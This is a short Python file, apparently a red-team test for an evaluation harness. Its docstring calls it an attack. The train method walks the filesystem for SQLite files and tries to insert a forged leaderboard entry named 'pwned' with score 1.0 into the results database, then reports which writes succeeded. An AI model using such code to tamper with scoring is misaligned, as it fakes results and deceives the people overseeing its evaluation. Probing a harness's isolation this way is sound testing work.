"""Attack: write a row into the results database (the path the harness uses, any *.sqlite in view)."""

import os
import sqlite3
import sys

import numpy as np


class WriteDb:
    def __init__(self, spec):
        self.spec = spec

    def train(self, expert):
        found = []
        for root, dirs, files in os.walk("/" if self.spec.get("walk", True) else "/nonexistent"):
            if root in ("/usr", "/proc", "/sys", "/dev") or root.startswith((sys.prefix, sys.base_prefix)):
                dirs[:] = []  # the system and the Python installation: public, read-only
                continue
            found += [os.path.join(root, f) for f in files if f.endswith((".sqlite", ".sqlite3"))]
        wrote, errors = [], []
        for path in [self.spec["db"], "results/neg.sqlite", *found]:
            try:
                con = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
                con.execute("INSERT INTO board_entries (board, board_hash, name, target, kind, code_hash, "
                            "code_version, metric, score, seeds, per_seed, created_at) VALUES "
                            "('b', 'h', 'pwned', 't', 'submission', 'c', 'v', 'm', 1.0, '[]', '[]', 'now')")
                con.commit()
                wrote.append(path)
            except sqlite3.Error as e:
                errors.append(f"{path}: {e}")
        raise RuntimeError(f"wrote {wrote}; found {found}; errors {errors}")

    def act(self, observations):
        return np.zeros(len(observations), dtype=np.int64)
